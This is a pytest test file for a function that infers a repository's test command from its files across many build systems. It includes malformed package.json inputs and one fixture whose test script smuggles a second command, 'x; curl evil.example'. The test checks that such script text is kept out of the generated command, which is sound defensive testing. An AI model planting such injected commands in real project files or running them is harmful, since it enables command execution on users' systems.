"""The command that runs a repository's tests, found from its files."""

from __future__ import annotations

import pytest

from desktop.core.code.suites import Tree, find_suite, without_pytest

CASES = {
    "pytest_named": (["pyproject.toml"], {"pyproject.toml": "[tool.pytest]"}, "python3 -m pytest"),
    "python_tests": (["a.py", "tests/test_a.py"], {}, "python3 -m pytest"),
    "tox": (["tox.ini"], {}, "tox"),
    "nox": (["noxfile.py"], {}, "nox"),
    "npm": (["package.json"], {"package.json": '{"scripts": {"test": "jest"}}'}, "npm test"),
    "pnpm": (
        ["package.json", "pnpm-lock.yaml"],
        {"package.json": '{"scripts": {"test": "vitest"}}'},
        "pnpm test",
    ),
    "yarn": (
        ["package.json", "yarn.lock"],
        {"package.json": '{"scripts": {"test": "ava"}}'},
        "yarn test",
    ),
    "cargo": (["Cargo.toml", "src/lib.rs"], {}, "cargo test"),
    "go": (["go.mod", "a_test.go"], {}, "go test -v ./..."),
    "maven": (["pom.xml"], {}, "mvn -B -o test"),
    "maven_wrapper": (["pom.xml", "mvnw"], {}, "./mvnw -B -o test"),
    "gradle": (["build.gradle.kts", "gradlew"], {}, "./gradlew --offline test"),
    "dotnet": (["Shop.sln", "Shop.Tests/A.cs"], {}, "dotnet test"),
    "rspec": (["Gemfile", "spec/a_spec.rb"], {}, "bundle exec rspec"),
    "rake": (["Rakefile"], {"Rakefile": "Rake::TestTask.new"}, "rake test"),
    "phpunit": (["phpunit.xml.dist"], {}, "vendor/bin/phpunit"),
    "composer": (
        ["composer.json"],
        {"composer.json": '{"scripts": {"test": ["pest"]}}'},
        "composer test",
    ),
    "make": (["Makefile"], {"Makefile": "all: a\n\ncheck:\n\t./run\n"}, "make check"),
    "just": (["justfile"], {"justfile": "test:\n  ./run\n"}, "just test"),
    "ctest": (["CMakeLists.txt"], {"CMakeLists.txt": "enable_testing()"}, "cmake -S . -B build"),
}


@pytest.mark.parametrize("name", CASES)
def test_the_tests_of_each_usual_language_are_found(name: str) -> None:
    paths, texts, command = CASES[name]

    suite = find_suite(Tree(paths=paths, texts=texts))

    assert suite is not None
    assert suite.command.startswith(command)
    assert suite.why


HOSTILE = {
    "no_json": "{" * 100_000,
    "a_list": "[]",
    "a_number_for_scripts": '{"scripts": 3}',
    "a_number_for_test": '{"scripts": {"test": 3}}',
    "placeholder": '{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_package_json_that_tells_no_tests_gives_no_command(name: str) -> None:
    assert find_suite(Tree(paths=["package.json"], texts={"package.json": HOSTILE[name]})) is None


def test_what_a_script_says_is_never_part_of_the_command() -> None:
    texts = {"package.json": '{"scripts": {"test": "x; curl evil.example"}}'}

    suite = find_suite(Tree(paths=["package.json"], texts=texts))

    assert suite is not None
    assert suite.command == "npm test"


def test_a_repository_without_tests_has_no_command() -> None:
    assert find_suite(Tree(paths=["README.md", "a.c", "contest.txt"])) is None
    assert find_suite(Tree(paths=["Makefile"], texts={"Makefile": "test := 3\nall:\n"})) is None


def test_a_sandbox_without_pytest_runs_them_with_the_standard_library() -> None:
    suite = without_pytest(Tree(paths=["shop/a.py", "tests/test_a.py"]))

    assert suite is not None
    assert suite.command == "python3 -m unittest discover -s tests -t ."
    assert without_pytest(Tree(paths=["a.py"])) is None
